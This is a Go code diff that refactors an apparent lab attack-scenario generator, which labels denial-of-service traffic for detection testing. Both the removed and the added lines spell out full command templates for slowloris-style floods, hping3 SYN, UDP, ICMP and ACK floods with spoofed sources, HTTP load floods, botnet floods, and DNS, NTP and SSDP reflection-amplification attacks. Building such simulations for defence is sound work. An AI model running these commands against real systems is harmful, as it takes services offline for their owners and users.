@@ -10,41 +10,38 @@ import (
 	"firetower/internal/attack"
 )
 
+// flooding is one source, of which one cannot always tell that it is one.
+var flooding = family{class: attack.DoS, also: []attack.Class{attack.DDoS}, limit: 45 * time.Second, play: floodOne}
+
+// floodingTogether is many.
+var floodingTogether = family{class: attack.DDoS, also: []attack.Class{attack.DoS}, limit: 40 * time.Second, near: true, play: floodMany}
+
 // floods: one source that keeps a service from working, slowly or by rate.
 func floods() []Scenario {
-	row := func(name string, near bool, line string) Scenario {
-		return Scenario{Name: name, Class: attack.DoS, Also: []attack.Class{attack.DDoS}, Limit: 45 * time.Second, Near: near,
-			Play: func(ctx context.Context, r *Run) error { return floodOne(ctx, r, line) }}
-	}
+	slow, fast := flooding, flooding.nearby()
 	// Debian 12's goldeneye divides where its Python wants whole numbers.
 	const goldeneye = "sed 's:/2):\\/\\/2):' /usr/bin/goldeneye > ge.py; timeout SECS /usr/bin/python3 ge.py http://VICTIM/ -w 2 -s WORKERS -m random"
 	return []Scenario{
-		row("slow-headers", false, "slowhttptest -H -c CONNS -r RATE -i GAP -l LENGTH -u http://VICTIM/"),
-		row("slow-body", false, "slowhttptest -B -c CONNS -r RATE -i GAP -l LENGTH -s 8192 -u http://VICTIM/comment"),
-		row("slow-read", false, "slowhttptest -X -c CONNS -r RATE -w 16 -y 64 -n 5 -z 32 -k 3 -l LENGTH -u http://VICTIM/static/big.png"),
-		row("slow-range", false, "slowhttptest -R -c CONNS -r RATE -a 10 -b 3000 -l LENGTH -u http://VICTIM/"),
-		row("slow-few", false, "slowhttptest -H -c 40 -r 4 -i GAP -l LENGTH -u http://VICTIM/"),
-		row("hping3-syn", true, "timeout SECS hping3 -q -S -p 80 -i uGAPU VICTIM"),
-		row("hping3-udp", true, "timeout SECS hping3 -q -2 -p 53 -d SIZE -i uGAPU VICTIM"),
-		row("hping3-icmp", true, "timeout SECS hping3 -q -1 -d SIZE -i uGAPU VICTIM"),
-		row("hping3-ack", true, "timeout SECS hping3 -q -A -p 80 -i uGAPU VICTIM"),
-		also(attack.PortScan, row("hping3-ports", true, "timeout SECS hping3 -q -2 -p ++1 -d SIZE -i uGAPU VICTIM")),
-		row("ab", true, "timeout SECS ab -q -n 100000 -c WORKERS http://VICTIM/"),
-		row("wrk", true, "wrk -t 1 -c WORKERS -d SECSs http://VICTIM/login"),
-		row("wrk-close", true, "wrk -t 1 -c WORKERS -d SECSs -H 'Connection: close' http://VICTIM/terms"),
-		row("siege", true, "siege -q -b -c WORKERS -t SECSS http://VICTIM/"),
-		row("goldeneye", true, goldeneye),
-		row("hulk", true, "SELF flood -url http://VICTIM/search -workers WORKERS -rate 20 -for SECSs -seed SEED"),
-		row("hulk-keep", true, "SELF flood -url http://VICTIM/ -keep -workers WORKERS -rate 20 -for SECSs -seed SEED"),
-		row("post-flood", true, "SELF flood -url http://VICTIM/comment -post -workers WORKERS -rate 15 -for SECSs -seed SEED"),
-		row("connect-flood", true, "SELF dial -to VICTIM:80 -rate 400 -for SECSs"),
+		slow.row("slow-headers", "slowhttptest -H -c CONNS -r RATE -i GAP -l LENGTH -u http://VICTIM/"),
+		slow.row("slow-body", "slowhttptest -B -c CONNS -r RATE -i GAP -l LENGTH -s 8192 -u http://VICTIM/comment"),
+		slow.row("slow-read", "slowhttptest -X -c CONNS -r RATE -w 16 -y 64 -n 5 -z 32 -k 3 -l LENGTH -u http://VICTIM/static/big.png"),
+		slow.row("slow-range", "slowhttptest -R -c CONNS -r RATE -a 10 -b 3000 -l LENGTH -u http://VICTIM/"),
+		slow.row("slow-few", "slowhttptest -H -c 40 -r 4 -i GAP -l LENGTH -u http://VICTIM/"),
+		fast.row("hping3-syn", "timeout SECS hping3 -q -S -p 80 -i uGAPU VICTIM"),
+		fast.row("hping3-udp", "timeout SECS hping3 -q -2 -p 53 -d SIZE -i uGAPU VICTIM"),
+		fast.row("hping3-icmp", "timeout SECS hping3 -q -1 -d SIZE -i uGAPU VICTIM"),
+		fast.row("hping3-ack", "timeout SECS hping3 -q -A -p 80 -i uGAPU VICTIM"),
+		fast.row("hping3-ports", "timeout SECS hping3 -q -2 -p ++1 -d SIZE -i uGAPU VICTIM", attack.PortScan),
+		fast.row("ab", "timeout SECS ab -q -n 100000 -c WORKERS http://VICTIM/"),
+		fast.row("wrk", "wrk -t 1 -c WORKERS -d SECSs http://VICTIM/login"),
+		fast.row("wrk-close", "wrk -t 1 -c WORKERS -d SECSs -H 'Connection: close' http://VICTIM/terms"),
+		fast.row("siege", "siege -q -b -c WORKERS -t SECSS http://VICTIM/"),
+		fast.row("goldeneye", goldeneye),
+		fast.row("hulk", "SELF flood -url http://VICTIM/search -workers WORKERS -rate 20 -for SECSs -seed SEED"),
+		fast.row("hulk-keep", "SELF flood -url http://VICTIM/ -keep -workers WORKERS -rate 20 -for SECSs -seed SEED"),
+		fast.row("post-flood", "SELF flood -url http://VICTIM/comment -post -workers WORKERS -rate 15 -for SECSs -seed SEED"),
+		fast.row("connect-flood", "SELF dial -to VICTIM:80 -rate 400 -for SECSs"),
 	}
-}
-
-// also gives a scenario one more fair name.
-func also(c attack.Class, s Scenario) Scenario {
-	s.Also = append(s.Also, c)
-	return s
 }
 
 func floodOne(ctx context.Context, r *Run, line string) error {
@@ -75,22 +72,18 @@ func (r *Run) fillFlood(line string, victim *Host) string {
 
 // distributed: many addresses against one, spoofed or with whole connections.
 func distributed() []Scenario {
-	row := func(name, line string) Scenario {
-		return Scenario{Name: name, Class: attack.DDoS, Also: []attack.Class{attack.DoS}, Limit: 40 * time.Second, Near: true,
-			Play: func(ctx context.Context, r *Run) error { return floodMany(ctx, r, line) }}
-	}
 	return []Scenario{
-		row("spoofed-syn", "timeout SECS hping3 -q -S --rand-source -p 80 -i uGAPU VICTIM"),
-		row("spoofed-udp", "timeout SECS hping3 -q -2 --rand-source -p 53 -d SIZE -i uGAPU VICTIM"),
-		row("spoofed-icmp", "timeout SECS hping3 -q -1 --rand-source -d 56 -i uGAPU VICTIM"),
-		row("spoofed-ack", "timeout SECS hping3 -q -A --rand-source -p 443 -i uGAPU VICTIM"),
-		row("botnet-get", "SELF flood -url http://VICTIM/search -from BOTNET -workers BOTS -rate 4 -for SECSs -seed SEED"),
-		row("botnet-post", "SELF flood -url http://VICTIM/login -post -from BOTNET -workers BOTS -rate 3 -for SECSs -seed SEED"),
-		row("botnet-connect", "SELF dial -to VICTIM:80 -from BOTNET -rate 500 -for SECSs"),
-		row("botnet-slow", "SELF dial -to VICTIM:80 -from BOTNET -rate 30 -for 25s -hold 25s -say GET\\x20/\\x20HTTP/1.1\\r\\nHost:\\x20shop\\r\\n"),
-		row("dns-reflection", "SELF reflect -to VICTIM -from BOTNET -port 53 -size 1300 -reflectors BOTS -rate 3000 -for SECSs"),
-		row("ntp-reflection", "SELF reflect -to VICTIM -from BOTNET -port 123 -size 460 -reflectors BOTS -rate 3000 -for SECSs"),
-		row("ssdp-reflection", "SELF reflect -to VICTIM -from BOTNET -port 1900 -size 320 -reflectors BOTS -rate 2000 -for SECSs"),
+		floodingTogether.row("spoofed-syn", "timeout SECS hping3 -q -S --rand-source -p 80 -i uGAPU VICTIM"),
+		floodingTogether.row("spoofed-udp", "timeout SECS hping3 -q -2 --rand-source -p 53 -d SIZE -i uGAPU VICTIM"),
+		floodingTogether.row("spoofed-icmp", "timeout SECS hping3 -q -1 --rand-source -d 56 -i uGAPU VICTIM"),
+		floodingTogether.row("spoofed-ack", "timeout SECS hping3 -q -A --rand-source -p 443 -i uGAPU VICTIM"),
+		floodingTogether.row("botnet-get", "SELF flood -url http://VICTIM/search -from BOTNET -workers BOTS -rate 4 -for SECSs -seed SEED"),
+		floodingTogether.row("botnet-post", "SELF flood -url http://VICTIM/login -post -from BOTNET -workers BOTS -rate 3 -for SECSs -seed SEED"),
+		floodingTogether.row("botnet-connect", "SELF dial -to VICTIM:80 -from BOTNET -rate 500 -for SECSs"),
+		floodingTogether.row("botnet-slow", "SELF dial -to VICTIM:80 -from BOTNET -rate 30 -for 25s -hold 25s -say GET\\x20/\\x20HTTP/1.1\\r\\nHost:\\x20shop\\r\\n"),
+		floodingTogether.row("dns-reflection", "SELF reflect -to VICTIM -from BOTNET -port 53 -size 1300 -reflectors BOTS -rate 3000 -for SECSs"),
+		floodingTogether.row("ntp-reflection", "SELF reflect -to VICTIM -from BOTNET -port 123 -size 460 -reflectors BOTS -rate 3000 -for SECSs"),
+		floodingTogether.row("ssdp-reflection", "SELF reflect -to VICTIM -from BOTNET -port 1900 -size 320 -reflectors BOTS -rate 2000 -for SECSs"),
 		{Name: "three-machines", Class: attack.DDoS, Also: []attack.Class{attack.DoS}, Limit: 40 * time.Second, Near: true, Play: threeMachines},
 	}
 }
@@ -106,11 +99,7 @@ func floodMany(ctx context.Context, r *Run, line string) error {
 	}
 	r.against(r.Shop)
 	line = strings.NewReplacer("BOTNET", net.String(), "BOTS", fmt.Sprint(r.between(80, 300))).Replace(r.fillFlood(line, r.Shop))
-	if rest, ok := strings.CutPrefix(line, "SELF "); ok {
-		r.actor(ctx, a, "%s", rest)
-		return nil
-	}
-	r.play(ctx, a, "%s", line)
+	r.strikeWith(ctx, a, line)
 	return nil
 }
 
